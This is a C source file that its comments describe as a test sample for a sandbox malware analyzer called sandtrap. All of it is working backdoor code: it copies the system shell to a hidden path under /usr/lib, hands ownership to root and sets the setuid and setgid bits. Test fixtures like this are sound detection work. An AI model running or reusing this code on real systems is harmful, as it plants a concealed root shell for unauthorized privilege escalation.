/* Privilege escalation backdoor: copies /bin/sh to a hidden path, chowns it to root and sets the setuid and setgid bits.
 * Harmless test sample for sandtrap: it only acts on the disposable guest (decoy files,
 * simulated internet, reserved addresses). Built into the build directory and copied
 * without the exec bit; never run it on a host, only through `sandtrap analyze`.
 */
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(void)
{
	const char *dst = "/usr/lib/.cache-sh";
	char buf[65536];
	ssize_t n;
	int in = open("/bin/dash", O_RDONLY), out = open(dst, O_WRONLY | O_CREAT | O_TRUNC, 0755);
	if (in < 0 || out < 0)
		return 1;
	while ((n = read(in, buf, sizeof(buf))) > 0)
		if (write(out, buf, (size_t)n) != n)
			return 1;
	close(in);
	fchown(out, 0, 0);
	close(out);
	if (chmod(dst, 06755) != 0)
		perror("chmod");
	struct stat st;
	if (stat(dst, &st) == 0)
		printf("%s mode %o\n", dst, st.st_mode & 07777);
	return 0;
}
